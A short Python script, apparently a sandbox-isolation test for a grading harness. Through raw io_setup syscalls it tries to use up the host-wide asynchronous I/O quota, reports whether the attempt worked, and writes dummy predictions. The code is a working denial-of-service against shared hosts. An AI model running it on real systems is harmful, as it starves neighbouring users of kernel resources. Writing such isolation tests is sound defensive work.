# TRIES: takes all asynchronous requests of the host: fs.aio-max-nr is one number for everybody.
# MUST REPORT: OK, scored normally.
# NEVER: /proc/sys/fs/aio-nr grows; io_setup of a neighbour fails.
import csv
import ctypes
import os
import platform

SYS_IO_SETUP = {"x86_64": 206, "aarch64": 0}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
taken, contexts = 0, []
while len(contexts) < 100:
    contexts.append(ctypes.c_ulong(0))
    if libc.syscall(SYS_IO_SETUP, 1024, ctypes.byref(contexts[-1])) < 0:
        break
    taken += 1024
used = open("/proc/sys/fs/aio-nr").read().strip()
print("ATTACK-RESULT:", "SUCCEEDED" if taken else "blocked", taken, "requests, the host has", used, flush=True)
ids = [row["id"] for row in csv.DictReader(open(os.path.join(os.environ["INPUT_DIR"], "test.csv")))]
with open(os.path.join(os.environ["OUTPUT_DIR"], "predictions.csv"), "w") as file:
    file.write("id,prediction\n" + "".join(f"{name},0\n" for name in ids))
